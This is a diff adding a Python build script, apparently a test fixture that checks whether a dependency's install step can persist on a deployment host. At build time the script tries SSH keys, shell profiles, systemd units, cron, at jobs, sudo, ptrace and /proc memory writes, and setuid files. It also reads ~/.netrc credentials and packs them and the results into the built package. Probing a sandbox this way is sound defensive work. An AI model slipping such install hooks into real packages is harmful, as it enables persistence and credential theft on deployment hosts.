@@ -1,0 +1,82 @@
+"""The build script of a dependency that tries to stay. What became of each attempt goes into the package."""
+import ctypes
+import json
+import os
+import socket
+import subprocess
+import sys
+
+from setuptools import setup
+
+HOME = os.path.expanduser('~deploy')
+VICTIM = int(open('/srv/shop/shared/victim').read())
+RELEASE, ENVIRONMENT = os.environ['LANDFALL_RELEASE'], os.environ.get('ANOTHER', '0000000000000000')
+
+
+def append(path):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, 'a') as file:
+        file.write('# evil\n')
+
+
+def connect(path):
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.connect(path)
+
+
+def runs(*argv, said=''):
+    subprocess.run(argv, input=said.encode(), check=True, timeout=10, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+def attach():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.ptrace(16, VICTIM, None, None) != 0:
+        raise OSError(ctypes.get_errno(), 'ptrace')
+
+
+ATTEMPTS = {
+    'a key': lambda: append(HOME + '/.ssh/authorized_keys'),
+    'a shell profile': lambda: append(HOME + '/.bashrc'),
+    'a user unit': lambda: append(HOME + '/.config/systemd/user/evil.service'),
+    'lingering': lambda: runs('loginctl', 'enable-linger', 'deploy'),
+    'lingering by hand': lambda: append('/var/lib/systemd/linger/deploy'),
+    'a unit of the user manager': lambda: runs('systemd-run', '--user', '--collect', 'sleep', '1001'),
+    'a unit of the system manager': lambda: runs('systemd-run', '--collect', 'sleep', '1001'),
+    'a file of /run/user': lambda: append('/run/user/%d/evil' % os.getuid()),
+    'the socket of D-Bus': lambda: connect('/run/dbus/system_bus_socket'),
+    'the socket of systemd': lambda: connect('/run/systemd/private'),
+    'the socket of the user bus': lambda: connect('/run/user/%d/bus' % os.getuid()),
+    'a crontab': lambda: runs('crontab', '-', said='* * * * * true\n'),
+    'a crontab by hand': lambda: append('/var/spool/cron/crontabs/deploy'),
+    'an at job': lambda: runs('at', 'now + 1 hour', said='true\n'),
+    'the helper as root': lambda: runs('sudo', '-n', '/usr/local/lib/landfall/landfall-host', said='{}\n'),
+    'another release': lambda: append('/srv/shop/releases/evil/main.py'),
+    'its own release': lambda: append('/srv/shop/releases/%s/main.py' % RELEASE),
+    'another environment': lambda: append('/srv/shop/venvs/%s/evil.pth' % ENVIRONMENT),
+    'the folder of environments': lambda: os.mkdir('/srv/shop/venvs/evil'),
+    'the link to the live release': lambda: append('/srv/shop/current/evil'),
+    'memory of the same user': lambda: open('/proc/%d/mem' % VICTIM, 'r+b'),
+    'tracing of the same user': attach,
+    'a control group': lambda: os.mkdir('/sys/fs/cgroup/evil'),
+    'a program of another user': lambda: (append('/tmp/suid'), os.chmod('/tmp/suid', 0o4755)),
+}
+
+
+def outcomes():
+    for name, attempt in ATTEMPTS.items():
+        try:
+            attempt()
+            yield name, 'done'
+        except Exception as error:
+            yield name, 'refused: %s' % error
+
+
+for path in ('/tmp/evil-left', '/var/tmp/evil-left', '/dev/shm/evil-left'):
+    append(path)  # allowed, and gone with the job
+subprocess.Popen(['sleep', '1001'], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL)
+found = dict(outcomes())
+found['configuration'] = open(HOME + '/.netrc').read().strip()
+with open('evil_found.py', 'w') as file:
+    file.write('FOUND = %r\n' % json.dumps(found))
+setup(name='evil', version='1.0', py_modules=['evil_found'])
